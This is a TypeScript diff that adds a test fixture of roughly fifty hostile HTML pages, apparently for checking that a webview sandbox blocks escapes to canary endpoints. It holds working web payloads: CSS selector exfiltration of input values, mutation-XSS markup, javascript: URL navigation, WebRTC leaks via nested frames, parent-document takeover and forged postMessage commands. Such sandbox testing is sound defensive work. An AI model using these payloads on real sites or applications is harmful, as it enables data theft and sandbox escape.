@@ -1,0 +1,265 @@
+import type { Canaries } from './canaries.ts';
+
+/** A page that tries to reach beyond its frame. */
+export interface HostilePage {
+  readonly name: string;
+  readonly html: string;
+  /** Whether it reaches a canary where nothing holds it: as a page of its own in the same browser. */
+  readonly reaches: boolean;
+  /** What a person clicks on it. */
+  readonly click?: string;
+}
+
+/**
+ * Pages for each way out that is known. Where one gets at something that it must not, it says so in `data-escaped` of its
+ * root; a script that ran to its end says that in `data-ran`.
+ */
+export function hostilePages({ http, socket, stun }: Canaries): readonly HostilePage[] {
+  const at = (name: string) => `${http}${name}`;
+  const script = (code: string) =>
+    `<script>const escaped = (what) => { document.documentElement.dataset.escaped = what; };
+const attempt = (work) => { try { return work(); } catch { return undefined; } };
+${code}
+document.documentElement.dataset.ran = 'yes';</script>`;
+  const connect = `const connect = (view) => attempt(() => {
+    const connection = new view.RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] });
+    connection.createDataChannel('x');
+    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
+  });`;
+  const alone = `{ const attempt = (work) => { try { return work(); } catch { return undefined; } }; ${connect.replaceAll('\n', ' ')} connect(window); }`;
+  const nested = `<script>${alone} new Image().src='${at('nested')}'</script>`.replaceAll("'", '&#39;');
+  const page = (name: string, html: string, reaches = true, click?: string): HostilePage => ({
+    name,
+    html: `<!doctype html><html lang="en"><head><title>${name}</title></head><body><h1>${name}</h1>${html}</body></html>`,
+    reaches,
+    ...(click === undefined ? {} : { click }),
+  });
+  return [
+    // Without scripts
+    page(
+      'image',
+      `<img src="${at('image')}" alt=""><img srcset="${at('image-set')} 2x" alt=""><picture><source srcset="${at('source')}"><img alt=""></picture>`,
+    ),
+    page(
+      'lazy-image',
+      `<img loading="lazy" src="${at('lazy')}" alt=""><input type="image" src="${at('input')}" alt="x"><video poster="${at('poster')}"></video>`,
+    ),
+    page(
+      'media',
+      `<video src="${at('video')}" autoplay muted></video><audio src="${at('audio')}" preload="auto"></audio><track src="${at('track')}">`,
+    ),
+    page(
+      'style-url',
+      `<style>body{background:url(${at('url')})}h1{background:u\\72l(${at('escaped-url')});cursor:url(${at('cursor')}),auto;content:image-set("${at('image-set')}" 1x)}</style>`,
+    ),
+    page(
+      'style-import',
+      `<style>@import "${at('import.css')}";@import url(${at('import2.css')});@\\69mport "${at('import3.css')}";</style><p style="background:url('${at('inline')}')">x</p>`,
+    ),
+    page('style-font', `<style>@font-face{font-family:a;src:url(${at('font')})}h1{font-family:a}</style>`),
+    page(
+      'style-exfiltration',
+      `<input value="s3cret" aria-label="x"><style>input[value^=s]{background:url(${at('starts-with-s')})}input[value$=t]{list-style:url(${at('ends-with-t')})}</style>`,
+    ),
+    page('style-sheet', `<link rel="stylesheet" href="${at('sheet.css')}"><link rel="icon" href="${at('icon')}">`),
+    page(
+      'hints',
+      `<link rel="prefetch" href="${at('prefetch')}"><link rel="preload" as="image" href="${at('preload')}"><link rel="modulepreload" href="${at('module')}"><link rel="prerender" href="${at('prerender')}"><link rel="preconnect" href="${http}"><link rel="dns-prefetch" href="${http}"><link rel="manifest" href="${at('manifest')}">`,
+    ),
+    page('meta-refresh', `<meta http-equiv="refresh" content="0;url=${at('refresh')}">`),
+    page(
+      'meta-policy',
+      `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${at('policy')}" alt="">`,
+      false,
+    ),
+    page('base', `<base href="${http}"><img src="based" alt=""><link rel="stylesheet" href="based.css">`),
+    page(
+      'subframe',
+      `<iframe src="${at('subframe')}"></iframe><object data="${at('object')}"></object><embed src="${at('embed')}">`,
+    ),
+    page(
+      'nested-document',
+      `<iframe srcdoc="${nested}"></iframe><iframe src="data:text/html,<img src='${at('data')}'>"></iframe>`,
+      true,
+    ),
+    page(
+      'script-address-frame',
+      `<iframe src="javascript:void(new Image().src='${at('script-address')}')"></iframe>`,
+      true,
+    ),
+    page(
+      'picture-script',
+      `<svg onload="new Image().src='${at('svg-load')}'"><script>new Image().src='${at('svg-script')}'</script><image href="${at('svg-image')}"/><use href="${at('svg-use')}#x"/><style>rect{fill:url(${at('svg-fill')}#x)}</style><rect width="9" height="9"/></svg>`,
+    ),
+    page(
+      'handler',
+      `<img src="data:," onerror="new Image().src='${at('handler')}'" alt=""><details open ontoggle="new Image().src='${at('toggle')}'"><summary>x</summary></details>`,
+    ),
+    page('anchor-click', `<a id="go" href="${at('anchor')}" ping="${at('ping')}">Go</a>`, true, '#go'),
+    page('anchor-blank', `<a id="go" href="${at('blank')}" target="_blank">Go</a>`, true, '#go'),
+    page('anchor-top', `<a id="go" href="${at('top')}" target="_top">Go</a>`, true, '#go'),
+    page('anchor-download', `<a id="go" href="${at('download')}" download>Go</a>`, true, '#go'),
+    page(
+      'script-address',
+      `<a id="go" href="javascript:void(new Image().src='${at('script-link')}')">Go</a>`,
+      true,
+      '#go',
+    ),
+    page('command-address', '<a id="go" href="command:workbench.action.closeAllEditors">Go</a>', false, '#go'),
+    page('form-click', `<form action="${at('form')}" method="post"><button id="go">Go</button></form>`, true, '#go'),
+    page('form-button', `<form><button id="go" formaction="${at('formaction')}">Go</button></form>`, true, '#go'),
+    page(
+      'mutation',
+      `<noscript><p title="</noscript><img src=${at('mutation')} onerror=1>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${at('mutation2')}&gt;">`,
+      false,
+    ),
+    // With scripts
+    page(
+      'fetch',
+      script(
+        `attempt(() => fetch('${at('fetch')}').catch(() => 0)); attempt(() => { const r = new XMLHttpRequest(); r.open('GET', '${at('xhr')}'); r.send(); }); attempt(() => fetch('${at('keepalive')}', { keepalive: true, mode: 'no-cors', method: 'POST' }).catch(() => 0)); attempt(() => fetchLater('${at('later')}', { activateAfter: 0 }));`,
+      ),
+    ),
+    page('beacon', script(`attempt(() => navigator.sendBeacon('${at('beacon')}', 'x'));`)),
+    page('web-socket', script(`attempt(() => new WebSocket('${socket}socket'));`)),
+    page('event-source', script(`attempt(() => new EventSource('${at('events')}'));`)),
+    page(
+      'web-transport',
+      script(`attempt(() => new WebTransport('${http.replace('http:', 'https:')}transport'));`),
+      false,
+    ),
+    page(
+      'new-image',
+      script(
+        `new Image().src = '${at('new-image')}'; document.body.style.backgroundImage = 'url(${at('style')})'; document.body.insertAdjacentHTML('beforeend', '<img src="${at('inserted')}" srcset="${at('inserted-set')} 1x">');`,
+      ),
+    ),
+    page(
+      'new-script',
+      script(
+        `const s = document.createElement('script'); s.src = '${at('new-script')}'; document.head.append(s); attempt(() => import('${at('module')}').catch(() => 0));`,
+      ),
+    ),
+    page(
+      'new-style',
+      script(
+        `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${at('new.css')}'; document.head.append(l); const i = document.createElement('style'); i.textContent = '@import "${at('new-import.css')}"'; document.head.append(i);`,
+      ),
+    ),
+    page(
+      'new-hints',
+      script(
+        `for (const rel of ['prefetch', 'preload', 'prerender', 'modulepreload', 'icon', 'manifest', 'preconnect', 'dns-prefetch']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = '${http}' + rel; document.head.append(l); }`,
+      ),
+    ),
+    page(
+      'speculation',
+      script(
+        `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['${at('speculated')}'], eagerness: 'immediate' }], prerender: [{ urls: ['${at('prerendered')}'], eagerness: 'immediate' }] }); document.head.append(s);`,
+      ),
+      false,
+    ),
+    page('self-navigation', script(`location.href = '${at('self')}';`)),
+    page(
+      'self-replace',
+      script(
+        `attempt(() => location.replace('${at('replace')}')); attempt(() => navigation.navigate('${at('navigate')}'));`,
+      ),
+    ),
+    page(
+      'self-script-address',
+      script(`attempt(() => { location.href = "javascript:void(new Image().src='${at('self-script')}')"; });`),
+    ),
+    page(
+      'self-data',
+      script(
+        `attempt(() => { location.href = "data:text/html,<img src='${at('self-data')}'>"; }); attempt(() => { location.href = URL.createObjectURL(new Blob(['<img src=${at('self-blob')}>'], { type: 'text/html' })); });`,
+      ),
+      false,
+    ),
+    page(
+      'top-navigation',
+      script(
+        `attempt(() => { top.location.href = '${at('top-script')}'; }); attempt(() => { parent.location.href = '${at('parent-script')}'; });`,
+      ),
+    ),
+    page(
+      'popup',
+      script(
+        `attempt(() => window.open('${at('popup')}')); attempt(() => { const a = document.createElement('a'); a.href = '${at('popup-link')}'; a.target = '_blank'; a.click(); });`,
+      ),
+      false,
+    ),
+    page(
+      'form-script',
+      script(
+        `const f = document.createElement('form'); f.action = '${at('form-script')}'; f.method = 'post'; document.body.append(f); attempt(() => f.submit()); attempt(() => f.requestSubmit());`,
+      ),
+    ),
+    page(
+      'new-subframe',
+      script(
+        `for (const [name, key] of [['iframe', 'src'], ['object', 'data'], ['embed', 'src'], ['frame', 'src'], ['portal', 'src'], ['fencedframe', 'src']]) { const e = document.createElement(name); e.setAttribute(key, '${http}new-' + name); document.body.append(e); }`,
+      ),
+    ),
+    page(
+      'worker',
+      script(
+        `attempt(() => new Worker('${at('worker.js')}')); attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('${at('blob-worker')}')"])))); attempt(() => new SharedWorker('${at('shared.js')}')); attempt(() => CSS.paintWorklet && CSS.paintWorklet.addModule('${at('worklet')}').catch(() => 0));`,
+      ),
+      true,
+    ),
+    page(
+      'service-worker',
+      script(
+        `attempt(() => navigator.serviceWorker.register('${at('service.js')}').catch(() => 0)); attempt(() => navigator.serviceWorker.getRegistrations().then(() => escaped('service workers'), () => 0));`,
+      ),
+      false,
+    ),
+    page(
+      'peer-connection',
+      script(
+        `${connect} connect(window); connect(globalThis); for (const name of ['webkitRTCPeerConnection', 'mozRTCPeerConnection']) connect({ RTCPeerConnection: window[name] });`,
+      ),
+    ),
+    page(
+      'peer-connection-blank',
+      script(
+        `${connect} const f = document.createElement('iframe'); document.body.append(f); connect(f.contentWindow); const o = document.createElement('object'); o.data = 'about:blank'; document.body.append(o); setTimeout(() => connect(o.contentWindow), 200);`,
+      ),
+    ),
+    page(
+      'peer-connection-nested',
+      script(
+        `const inner = "<script>${alone.replaceAll('"', '\\"')}<\\/script>"; const f = document.createElement('iframe'); f.srcdoc = inner; document.body.append(f); const d = document.createElement('div'); document.body.append(d); d.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>'; attempt(() => d.setHTMLUnsafe('<div><template shadowrootmode=closed><iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe></template></div>'));`,
+      ),
+    ),
+    page(
+      'peer-connection-written',
+      script(
+        `${connect} const inner = "<script>${alone.replaceAll('"', '\\"')}<\\/script>"; attempt(() => { const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.write(inner); }); attempt(() => { const f = document.createElement('iframe'); f.src = 'javascript:' + JSON.stringify(inner); document.body.append(f); }); attempt(() => connect(window.open('about:blank'))); setTimeout(() => { document.open(); document.write(inner + '<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>'); document.close(); }, 100);`,
+      ),
+    ),
+    page(
+      'parent-access',
+      script(
+        `for (const view of [parent, parent.parent, top]) { attempt(() => { view.document.body.textContent = 'owned'; escaped('document'); }); attempt(() => { if (view.acquireVsCodeApi) escaped('api'); }); attempt(() => { view.eval('1'); escaped('eval'); }); } if (typeof acquireVsCodeApi !== 'undefined') escaped('api'); attempt(() => { localStorage.setItem('x', '1'); escaped('storage'); }); attempt(() => { document.cookie = 'x=1'; if (document.cookie !== '') escaped('cookie'); }); attempt(() => { const r = indexedDB.open('x'); r.onsuccess = () => escaped('database'); }); attempt(() => { for (let i = 0; i < parent.length; i += 1) if (parent[i] !== window) { parent[i].document.body.textContent = 'owned'; escaped('other side'); } }); attempt(() => { if (frameElement) escaped('frame element'); });`,
+      ),
+      false,
+    ),
+    page(
+      'forged-messages',
+      script(
+        `const forged = [{ type: 'view-replaced', payload: { view: { files: ['owned.html'] } } }, { type: 'scripts-asked', payload: { side: 'right' } }, { type: 'panel-ready', payload: {} }, { type: 'checker-told', payload: { script: 'owned' } }, { type: 'frame-checked', payload: { violations: 'x'.repeat(5000000) } }, { type: 'frame-checked', payload: { violations: Array(101).fill({}) } }, { type: 'frame-logged', payload: { messages: [{ level: 'error', text: '<img src=${at('forged')} onerror=alert(1)>' }] } }, { channel: 'onmessage', data: { type: 'scripts-asked', payload: { side: 'right' } } }, { channel: 'do-update-state', data: '{}' }, { channel: 'did-click-link', data: { uri: '${at('forged-link')}' } }, { command: 'onmessage', data: {} }]; for (const message of forged) for (const view of [parent, parent.parent, top]) view.postMessage(message, '*'); attempt(() => { for (let i = 0; i < parent.length; i += 1) parent[i].postMessage({ type: 'check', payload: { script: "new Image().src='${at('forged-check')}'" } }, '*'); });`,
+      ),
+      false,
+    ),
+    page(
+      'other-doors',
+      script(
+        `attempt(() => navigator.credentials.get({ password: true }).then((c) => c && escaped('credentials'), () => 0)); attempt(() => navigator.clipboard.readText().then(() => escaped('clipboard'), () => 0)); attempt(() => navigator.geolocation.getCurrentPosition(() => escaped('place'))); attempt(() => navigator.mediaDevices.getUserMedia({ video: true }).then(() => escaped('camera'), () => 0)); attempt(() => Notification.requestPermission().then((p) => p === 'granted' && escaped('notifications'))); attempt(() => new PaymentRequest([{ supportedMethods: '${at('payment')}' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => 0)); attempt(() => document.requestStorageAccess().then(() => escaped('storage access'), () => 0)); attempt(() => navigator.joinAdInterestGroup && navigator.joinAdInterestGroup({ owner: '${http}', name: 'x', biddingLogicURL: '${at('bid')}' }, 1).catch(() => 0)); attempt(() => showOpenFilePicker().then(() => escaped('files'), () => 0)); attempt(() => alert('x')); attempt(() => print());`,
+      ),
+      false,
+    ),
+  ];
+}
